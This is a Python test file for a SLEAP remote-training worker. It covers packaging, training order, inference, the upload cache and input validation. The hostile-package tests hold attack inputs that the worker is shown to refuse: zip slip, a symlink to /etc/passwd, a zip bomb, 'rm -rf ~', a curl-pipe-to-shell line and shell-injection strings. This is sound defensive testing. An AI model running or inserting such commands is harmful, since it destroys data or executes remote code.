"""SLEAP training packages through a real worker, client and sleap-nn, and the upload
store they travel through.

Packages are built here in the exact layout SLEAP 1.6.6 exports (flat zip, mode 644,
configs, a .pkg.slp with embedded frames, train-script.sh, inference-script.sh or
track-script.sh, jobs.yaml or not); tests/fixtures/sleap-1.6.6/ holds one SLEAP itself
wrote.
"""

from __future__ import annotations

import json
import re
import stat
import zipfile
from pathlib import Path

import pytest

import packages
import protocol as P
import worker as W
from conftest import ledger, sha256, stand_in
from tiny_data import CONFIG, make_project

FIXTURE = Path(__file__).parent / "fixtures" / "sleap-1.6.6" / "single_instance.training_job.zip"
LAPTOP = "/Users/ana/sleap_project"  # where the labels lived on the machine that exported the package



def model_config(labels: str, run: str, epochs: int = 1) -> str:
    """The tiny project's config as a package holds it: labels by bare name, SLEAP's ckpt_dir and run name."""
    return CONFIG.format(labels=labels, epochs=epochs, steps=2) + f"  ckpt_dir: models\n  run_name: {run}\n"


# -- building packages as SLEAP does ---------------------------------------------------------


def write_zip(path: Path, entries: dict[str, bytes | str], modes: dict[str, int] | None = None) -> Path:
    """A flat zip of `entries`, each mode 644 unless `modes` says otherwise."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 11, 26, 2, 29, 0))
            info.external_attr = (modes or {}).get(name, stat.S_IFREG | 0o644) << 16
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return path


def train_line(model: str) -> str:
    return (f"sleap train --config-name {model}.yaml --config-dir . 'trainer_config.ckpt_dir=\"models\"' "
            f"'trainer_config.run_name=\"{run_name(model)}\"' ")


def run_name(model: str) -> str:
    return f"261126_021203.{model}.n=16"


@pytest.fixture(scope="module")
def labels(tmp_path_factory) -> bytes:
    """tiny.pkg.slp: 16 labeled frames embedded, as SLEAP packs them."""
    import sleap_io as sio

    out = tmp_path_factory.mktemp("project")
    made = make_project(out, frames=16)
    project = sio.load_slp(str(made["labels"]))
    project.save(str(out / "tiny.pkg.slp"), embed="user")
    return (out / "tiny.pkg.slp").read_bytes()


def package(path: Path, labels: bytes, models: list[str], inference: str, script: str = "inference-script.sh",
            broken: tuple[str, ...] = (), epochs: dict[str, int] | None = None) -> Path:
    """A package training `models` in order (those in `broken` name a labels file sleap-nn
    cannot read; `epochs` by model, else 1), then running the `inference` line (from `script`)."""
    entries: dict[str, bytes | str] = {"tiny.pkg.slp": labels, "notes.slp": "not labels"}
    for model in models:
        entries[f"{model}.yaml"] = model_config("notes.slp" if model in broken else "tiny.pkg.slp", run_name(model),
                                                (epochs or {}).get(model, 1))
    entries["train-script.sh"] = "#!/bin/bash\n" + "".join(train_line(m) + "\n" for m in models)
    entries[script] = "#!/bin/bash\n" + inference + "\n"
    return write_zip(path, entries)


def events(client_dir: Path, job_id: str) -> list[tuple[str, str | None]]:
    """The job's messages as the client received them: (name, model or step name)."""
    lines = (client_dir / "sleap-rtc-jobs" / job_id / "events.jsonl").read_text().splitlines()
    return [(e["name"], e["payload"].get("name")) for e in map(json.loads, lines)
            if e["name"] in (*P.STEP_MESSAGES, P.JOB_COMPLETE, P.JOB_FAILED)]


def job_of(result) -> str:
    return re.search(r"job (\S+) accepted", result.stdout).group(1)


# -- real packages, end to end ----------------------------------------------------------------


@pytest.mark.slow
def test_the_sleap_1_6_6_package_trains_and_predicts_as_exported(room):
    worker_dir = room.tmp / "w"
    worker, _ = room.start_worker(working_dir=worker_dir)
    result = room.client("train", "--pkg-path", str(FIXTURE), timeout=300)
    assert result.returncode == 0, result.stdout + result.stderr
    job_id = job_of(result)
    assert "training packages are deprecated" in result.stderr
    assert re.search(r"single_instance.training_job.zip: sent 157415 bytes", result.stderr), result.stderr
    assert events(room.tmp, job_id) == [
        (P.TRAIN_JOB_START, "single_instance"), (P.TRAIN_JOB_END, "single_instance"), (P.INFERENCE_START, None),
        (P.INFERENCE_JOB_START, "inference"), (P.JOB_COMPLETE, None)]
    # What only the worker knows replaced what the laptop wrote, and the log says so.
    assert "single_instance: the package asks for trainer_accelerator cpu (the exporting machine's); this worker uses auto" in result.stderr
    record = ledger(worker_dir, job_id)
    assert [(s["name"], s["state"]) for s in record["steps"]] == [("single_instance", "completed"),
                                                                   ("inference", "completed")]
    assert "--device auto" in " ".join(json.loads(record["command"]))
    # The predictions came back, checked against the worker's SHA-256: one per suggested frame.
    predictions = room.tmp / "synth.pkg.slp.predictions.slp"
    sent = next(o for o in record["outputs"] if o["kind"] == "predictions")
    assert sha256(predictions) == sent["sha256"] and f"sha256 {sent['sha256']}, checked" in result.stdout
    import sleap_io as sio

    predicted = sio.load_slp(str(predictions))
    packaged = sio.load_slp(str(worker_dir / "jobs" / job_id / "package" / "synth.pkg.slp"))
    assert sorted(f.frame_idx for f in predicted.labeled_frames if f.predicted_instances) == \
        sorted(s.frame_idx for s in packaged.suggestions)
    model = next(o for o in record["outputs"] if o["kind"] == "model")
    assert Path(model["path"]) == worker_dir / "jobs" / job_id / "package" / "models" / "261126_022926.single_instance.n=20"

    # The same package again: nothing is sent.
    again = room.client("train", "--pkg-path", str(FIXTURE), "--detach")
    assert again.returncode == 0, again.stderr
    assert "single_instance.training_job.zip: already on the worker" in again.stderr
    assert "sent 0 bytes" in again.stderr and "upload single_instance" not in again.stderr
    assert room.client("cancel", job_of(again)).returncode == 0


@pytest.mark.slow
def test_models_train_in_order_from_the_scripts_then_inference(room, labels):
    worker_dir = room.tmp / "w"
    room.start_worker(working_dir=worker_dir)
    inference = (f"# SLEAP writes one line; this one is continued\nsleap-nn track --data_path {LAPTOP}/tiny.slp \\\n"
                 f"  --model_paths models/{run_name('second')} -o tiny.predictions.slp --device cpu \\\n"
                 "  --video_index 0 --frames 0,-5 --gui")
    pkg = package(room.tmp / "two.zip", labels, ["first", "second"], inference, script="track-script.sh")
    result = room.client("train", "--pkg-path", str(pkg), timeout=300)
    assert result.returncode == 0, result.stdout + result.stderr
    job_id = job_of(result)
    assert events(room.tmp, job_id) == [
        (P.TRAIN_JOB_START, "first"), (P.TRAIN_JOB_END, "first"), (P.TRAIN_JOB_START, "second"),
        (P.TRAIN_JOB_END, "second"), (P.INFERENCE_START, None), (P.INFERENCE_JOB_START, "inference"),
        (P.JOB_COMPLETE, None)]
    record = ledger(worker_dir, job_id)
    command = json.loads(record["command"])
    assert command[1] == "predict" and "--frames" in command and command[command.index("--frames") + 1] == "0-5"
    assert "frames 0,-5 (SLEAP's syntax) passed as 0-5" in result.stderr
    assert f"data_path {LAPTOP}/tiny.slp is not on this worker; using the package's tiny.pkg.slp" in result.stderr
    assert "the package asks for device cpu (the exporting machine's); this worker uses auto" in result.stderr
    assert sorted(o["name"] for o in record["outputs"] if o["kind"] == "model") == ["first", "second"]
    import sleap_io as sio

    predicted = sio.load_slp(str(room.tmp / "tiny.predictions.slp"))
    assert sorted(f.frame_idx for f in predicted.labeled_frames) == list(range(6))


@pytest.mark.slow
def test_a_model_that_fails_stops_the_package(room, labels):
    worker_dir = room.tmp / "w"
    room.start_worker(working_dir=worker_dir)
    inference = f"sleap predict --data_path tiny.pkg.slp --model_paths models/{run_name('third')} -o out.slp"
    pkg = package(room.tmp / "three.zip", labels, ["first", "second", "third"], inference, broken=("second",))
    result = room.client("train", "--pkg-path", str(pkg), timeout=300)
    assert result.returncode == 1, result.stdout + result.stderr
    job_id = job_of(result)
    seen = events(room.tmp, job_id)
    assert seen == [(P.TRAIN_JOB_START, "first"), (P.TRAIN_JOB_END, "first"), (P.TRAIN_JOB_START, "second"),
                    (P.TRAIN_JOB_ERROR, "second"), (P.JOB_FAILED, None)]
    error = [json.loads(e) for e in (room.tmp / "sleap-rtc-jobs" / job_id / "events.jsonl").read_text().splitlines()
             if json.loads(e)["name"] == P.TRAIN_JOB_ERROR][0]["payload"]
    assert isinstance(error["exit_code"], int) and error["exit_code"] != 0
    record = ledger(worker_dir, job_id)
    assert record["state"] == P.FAILED and "not run: third, inference" in record["error"]
    assert [(s["name"], s["state"]) for s in record["steps"]] == [
        ("first", "completed"), ("second", "failed"), ("third", "not run"), ("inference", "not run")]
    assert "third" not in " ".join(json.loads(record["command"]))  # the last command run was the second's


@pytest.mark.slow
def test_stop_early_ends_the_current_model_and_the_package_goes_on(room, labels):
    worker_dir = room.tmp / "w"
    room.start_worker(working_dir=worker_dir)
    inference = f"sleap predict --data_path tiny.pkg.slp --model_paths models/{run_name('second')} -o out.slp"
    pkg = package(room.tmp / "long.zip", labels, ["first", "second"], inference, epochs={"first": 500})
    follower = room.start_client("train", "--pkg-path", str(pkg))
    job_id = follower.wait_for(r"job (\S+) accepted", 60).group(1)
    follower.wait_for(r"epoch 1/500", 120)  # the first model trains, and would for minutes
    stopped = room.client("stop", job_id)
    assert stopped.returncode == 0 and "then the package goes on" in stopped.stdout, stopped.stdout + stopped.stderr
    assert follower.popen.wait(timeout=180) == 0, follower.output()
    assert events(room.tmp, job_id) == [
        (P.TRAIN_JOB_START, "first"), (P.TRAIN_JOB_END, "first"), (P.TRAIN_JOB_START, "second"),
        (P.TRAIN_JOB_END, "second"), (P.INFERENCE_START, None), (P.INFERENCE_JOB_START, "inference"),
        (P.JOB_COMPLETE, None)]
    record = ledger(worker_dir, job_id)
    assert [(s["name"], s["state"], s["stopped_early"]) for s in record["steps"][:2]] == [
        ("first", P.COMPLETED, True), ("second", P.COMPLETED, False)]
    assert "model first trained (stopped early)" in follower.output()
    assert sorted(o["name"] for o in record["outputs"] if o["kind"] == "model") == ["first", "second"]


@pytest.mark.slow
def test_a_package_on_shared_storage_runs_next_to_itself(room, labels):
    mount = room.tmp / "lab"
    mount.mkdir()
    worker_dir = room.tmp / "w"
    room.start_worker("--mount", str(mount), working_dir=worker_dir)
    # No frame 100 exists: sleap-nn predicts nothing, and the job completes with a warning.
    inference = (f"sleap predict --data_path tiny.pkg.slp --model_paths models/{run_name('solo')} -o none.slp "
                 "--video_index 0 --frames 100-110")
    pkg = package(mount / "tiny.training_job.zip", labels, ["solo"], inference)
    result = room.client("train", "--worker-pkg-path", str(pkg), "--no-progress", timeout=300)
    assert result.returncode == 0, result.stdout + result.stderr
    job_id = job_of(result)
    unpacked = mount / f"tiny.training_job-{job_id}"
    assert sorted(p.name for p in mount.iterdir()) == sorted(["tiny.training_job.zip", unpacked.name])
    assert (unpacked / "models" / run_name("solo") / "best.ckpt").is_file()
    assert f"model next to the package: {unpacked.name}/models/{run_name('solo')}" in result.stdout
    assert f"predictions next to the package: {unpacked.name}/none.slp" in result.stdout
    assert "warning: sleap-nn predicted no instance on any frame" in result.stdout
    record = ledger(worker_dir, job_id)
    assert record["state"] == P.COMPLETED and "predicted no instance" in record["warning"]
    train_command = (worker_dir / "jobs" / job_id / "job.log").read_text()
    assert "zmq" not in " ".join(json.loads(record["command"])) and "TRAIN_JOB_START solo" in train_command


def watched_worker(room, tmp_path) -> tuple[Path, Path, Path]:
    """A worker mounting ROOM/lab whose "sleap-nn" only leaves a mark: (mount, mark, working dir)."""
    mount, worker_dir = room.tmp / "lab", room.tmp / "w"
    mount.mkdir()
    marker = tmp_path / "sleap-nn-ran"
    fake = stand_in(tmp_path, "fake-sleap-nn", f"open({str(marker)!r}, 'w').close()\n")
    room.start_worker("--mount", str(mount), "--sleap-nn", str(fake), working_dir=worker_dir)
    return mount, marker, worker_dir


def test_a_missing_package_on_shared_storage_fails_and_runs_nothing(room, tmp_path):
    mount, marker, worker_dir = watched_worker(room, tmp_path)
    result = room.client("train", "--worker-pkg-path", str(mount / "gone.zip"))
    assert result.returncode == 1, result.stdout + result.stderr
    assert f"FileNotFoundError: package {mount / 'gone.zip'} does not exist on the worker" in result.stderr
    record = ledger(worker_dir, job_of(result))
    assert record["state"] == P.FAILED and "FileNotFoundError" in record["error"]
    assert record["command"] is None and record["pid"] is None and record["started_at"] is None
    assert not marker.exists() and list(mount.iterdir()) == []


def test_hostile_packages_are_refused_and_nothing_is_left(room, labels, tmp_path):
    mount, marker, worker_dir = watched_worker(room, tmp_path)
    good = {"solo.yaml": model_config(labels="tiny.pkg.slp", run="r"), "tiny.pkg.slp": labels,
            "train-script.sh": train_line("solo") + "\n"}
    cases = {
        "zip slip": ({**good, "../escaped.txt": "x"}, {}, "would land outside the package"),
        "absolute name": ({**good, "/tmp/absolute.txt": "x"}, {}, "has an absolute name"),
        "symlink": ({**good, "link": "/etc/passwd"}, {"link": stat.S_IFLNK | 0o777}, "is a symbolic link"),
        "zip bomb": ({**good, "big.bin": b"\0" * (64 * 2**20)}, {}, "refused as a zip bomb"),
        "rm": ({**good, "train-script.sh": train_line("solo") + "\nrm -rf ~\n"}, {},
               "train-script.sh line 2: 'rm -rf ~' is not a sleap training command"),
        "curl": ({**good, "inference-script.sh": "curl -s http://example.invalid/x.sh | sh\n"}, {},
                 "inference-script.sh line 1: shell operator '|'"),
        "resolver": ({**good, "train-script.sh": train_line("solo") + "'trainer_config.run_name=${oc.env:HOME}'\n"},
                     {}, "the override trainer_config.run_name uses an interpolation or resolver"),
    }
    for label, (entries, modes, reason) in cases.items():
        for how in ("--worker-pkg-path", "--pkg-path"):
            pkg = write_zip(mount / "hostile.zip", entries, modes)
            result = room.client("train", how, str(pkg))
            assert result.returncode == 1, (label, result.stdout + result.stderr)
            assert "was rejected by" in result.stderr and reason in result.stderr, (label, result.stderr)
            assert [p.name for p in mount.iterdir()] == ["hostile.zip"], label  # nothing unpacked beside it
    assert not marker.exists()  # sleap-nn never ran
    assert not (worker_dir / "jobs").exists() or list((worker_dir / "jobs").iterdir()) == []
    assert ledger_is_empty(worker_dir)


def ledger_is_empty(worker_dir: Path) -> bool:
    import sqlite3

    with sqlite3.connect(worker_dir / "jobs.sqlite") as db:
        return db.execute("SELECT COUNT(*) FROM jobs").fetchone()[0] == 0


# -- the upload store -----------------------------------------------------------------------


def test_the_upload_store_evicts_the_least_recently_used_content(room):
    worker_dir = room.tmp / "w"
    room.start_worker("--upload-cache-gb", "0.00003", working_dir=worker_dir)  # 30 kB
    files = {}
    for name in "abc":
        files[name] = room.tmp / f"{name}.bin"
        files[name].write_bytes(name.encode() * 12_000)
    store = worker_dir / "uploads"
    held = lambda: sorted(p.name for p in store.iterdir() if not p.name.startswith("."))  # noqa: E731
    digest = {name: sha256(path) for name, path in files.items()}
    for name in ("a", "b"):
        assert room.client("upload", str(files[name])).returncode == 0
    again = room.client("upload", str(files["a"]))  # a is used again: b is now the oldest
    assert "already on the worker" in again.stderr
    assert room.client("upload", str(files["c"])).returncode == 0
    assert held() == sorted([digest["a"], digest["c"]])
    resent = room.client("upload", str(files["b"]))  # b was evicted, so it travels again
    assert "sent 12000 bytes" in resent.stderr, resent.stderr


def test_the_upload_store_keeps_what_queued_jobs_need(tmp_path):
    needed: set[str] = set()
    store = W.UploadStore(tmp_path / "uploads", cap=25, needed=lambda: needed)
    for index, name in enumerate(("old", "mid", "new")):
        content = store.directory / (f"{index}" * 64)
        content.mkdir()
        (content / name).write_bytes(b"x" * 10)
        import os

        os.utime(content, (1000 + index, 1000 + index))
    needed.add("0" * 64)  # the oldest is named by a queued job
    assert store.settle() == ["1" * 64]
    assert sorted(p.name for p in store.directory.iterdir()) == ["0" * 64, "2" * 64]


# -- reading packages: unit tests of the parser ----------------------------------------------------


def test_scripts_are_read_as_a_shell_would_split_them_and_never_more():
    text = "#!/bin/bash\n# comment\n\nsleap train --config-name a.yaml \\\n  --config-dir . 'x=\"a b\"' # tail\n"
    assert packages.script_commands(text, "train-script.sh") == [(4, ["sleap", "train", "--config-name", "a.yaml",
                                                               "--config-dir", ".", 'x="a b"'])]
    for line, reason in (("sleap train a.yaml; rm -rf /", "shell operator ';'"),
                         ("sleap train a.yaml && curl x", "shell operator '&&'"),
                         ("sleap train $(id).yaml", "shell expansion"), ("sleap train `id`", "shell expansion"),
                         ("sleap train $HOME/a.yaml", "shell expansion"), ("sleap train 'a.yaml", "No closing")):
        with pytest.raises(packages.PackageRefused, match=re.escape(reason)):
            packages.script_commands(f"\n{line}\n", "train-script.sh")


def test_sleap_frame_ranges_keep_their_meaning():
    assert packages.sleap_frames("0,-39") == "0-39" and packages.sleap_frames("0-39") == "0-39"
    assert packages.sleap_frames("1,5,9") == "1,5,9"
    assert packages.sleap_frames("9-2") is None and packages.sleap_frames("a,b") is None


def plan(tmp_path: Path, entries: dict, job_type: str = P.TRAIN) -> packages.PackagePlan:
    mount = W.Mount(tmp_path, "t")
    return packages.plan_package(write_zip(tmp_path / "p.zip", entries), job_type, tmp_path / "unpacked", [mount], [mount],
                          "sleap-nn", tmp_path / "configs", True)


def test_jobs_yaml_and_the_scripts_of_the_real_package_plan_the_same_run(tmp_path):
    with zipfile.ZipFile(FIXTURE) as archive:
        entries = {info.filename: archive.read(info) for info in archive.infolist()}
    with_jobs = plan(tmp_path, entries)
    scripts_only = plan(tmp_path, {k: v for k, v in entries.items() if k != "jobs.yaml"})
    for one, other in zip(with_jobs.steps, scripts_only.steps, strict=True):
        assert (one.kind, one.name, one.ckpt_dir, one.run_name, one.output) == \
            (other.kind, other.name, other.ckpt_dir, other.run_name, other.output)
    train, track = scripts_only.steps
    assert "++trainer_config.trainer_accelerator=auto" in train.args
    assert track.args[:4] == ["sleap-nn", "predict", "--data_path", str(tmp_path / "unpacked" / "synth.pkg.slp")]
    assert {"--only_suggested_frames", "--exclude_user_labeled"} <= set(track.args)
    assert track.args[track.args.index("--device") + 1] == "auto"


def test_a_top_down_inference_line_passes_both_models(tmp_path):
    entries = {"centroid.yaml": model_config(labels="l.pkg.slp", run="c"),
               "centered_instance.yaml": model_config(labels="l.pkg.slp", run="ci"), "l.pkg.slp": "x",
               "train-script.sh": "sleap train --config-name centroid.yaml --config-dir .\n"
                                  "sleap train --config-name centered_instance.yaml --config-dir .\n",
               "inference-script.sh": "sleap predict --data_path /home/ana/l.slp --model_paths models/c "
                                      "--model_paths models/ci -o l.predictions.slp --only_labeled_frames\n"}
    steps = plan(tmp_path, entries).steps
    assert [s.name for s in steps] == ["centroid", "centered_instance", "inference"]
    args = steps[2].args
    assert [args[i + 1] for i, a in enumerate(args) if a == "--model_paths"] == [
        str(tmp_path / "unpacked" / "models" / "c"), str(tmp_path / "unpacked" / "models" / "ci")]
    with pytest.raises(packages.PackageRefused, match="models/c is not in the package"):
        plan(tmp_path, entries, P.TRACK)  # a track job trains nothing: its models must come with it
    packed = {**entries, "models/c/best.ckpt": "w", "models/ci/best.ckpt": "w"}
    assert [s.name for s in plan(tmp_path, packed, P.TRACK).steps] == ["inference"]


@pytest.mark.parametrize("entries, reason", [
    ({"a.yaml": "x: 1", "train-script.sh": "sleap train --config-name a.yaml --config-dir .\n",
      "a.slp": "x", "inference-script.sh": "sleap predict --data_path a.slp --model_paths /etc -o out.slp\n"},
     "Access denied: /etc is outside the worker's mounts"),
    ({"a.yaml": "trainer_config:\n  ckpt_dir: ../../elsewhere\n",
      "train-script.sh": "sleap train --config-name a.yaml --config-dir .\n"}, "climbs out of the package"),
    ({"a.yaml": "x: 1", "train-script.sh": "sleap train --config-name a.yaml --config-dir . --cfg job\n"},
     "'--cfg' is not an option the worker passes to sleap-nn train"),
    ({"a.yaml": "x: 1", "train-script.sh": "sleap train --config-name b.yaml --config-dir .\n"},
     "config ./b.yaml is not in the package"),
    ({"a.yaml": "hydra:\n  run: {dir: /}\n", "train-script.sh": "sleap train --config-name a.yaml --config-dir .\n"},
     "the top-level key 'hydra'"),
    ({"a.yaml": "x: 1"}, "trains no model"),
])
def test_package_contents_are_checked_like_any_job(tmp_path, entries, reason):
    with pytest.raises(packages.PackageRefused, match=re.escape(reason)):
        plan(tmp_path, entries)


def test_zip_entries_that_are_not_plain_files_are_refused(tmp_path):
    cases = [({"dev": "x"}, {"dev": stat.S_IFCHR | 0o644}, "not a regular file"),
             ({f"f{i}": "x" for i in range(packages.PACKAGE_MAX_ENTRIES + 1)}, {}, "entries; a training package has"),
             ({"a//b": "x"}, {}, "would land outside")]
    for entries, modes, reason in cases:
        with pytest.raises(packages.PackageRefused, match=re.escape(reason)):
            packages.open_package(write_zip(tmp_path / "p.zip", entries, modes))
    raw = write_zip(tmp_path / "latin1.zip", {"cafe.yaml": "x"})  # renamed below to a name not flagged UTF-8
    raw.write_bytes(raw.read_bytes().replace(b"cafe", b"caf\xe9"))
    with pytest.raises(packages.PackageRefused, match="not marked UTF-8"):
        packages.open_package(raw)
    (tmp_path / "not.zip").write_text("not a zip")
    with pytest.raises(packages.PackageRefused, match="not a readable zip"):
        packages.open_package(tmp_path / "not.zip")


def test_unpacking_leaves_nothing_half_done(tmp_path):
    pkg = write_zip(tmp_path / "p.zip", {"a.yaml": "x: 1", "sub/b.txt": "b"})
    packages.unpack_package(pkg, tmp_path / "out")
    assert (tmp_path / "out" / "sub" / "b.txt").read_text() == "b"
    with pytest.raises(packages.PackageRefused, match="exists already"):
        packages.unpack_package(pkg, tmp_path / "out")
    broken = tmp_path / "broken.zip"  # the second entry's bytes are damaged after its header
    data = bytearray(write_zip(broken, {"a.yaml": "x: 1", "b.bin": bytes(range(256)) * 64}).read_bytes())
    start = data.index(b"b.bin") + 5
    data[start + 10:start + 60] = b"\xff" * 50
    broken.write_bytes(bytes(data))
    with pytest.raises(packages.PackageRefused, match="unpacking broken.zip failed"):
        packages.unpack_package(broken, tmp_path / "half")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["broken.zip", "out", "p.zip"]
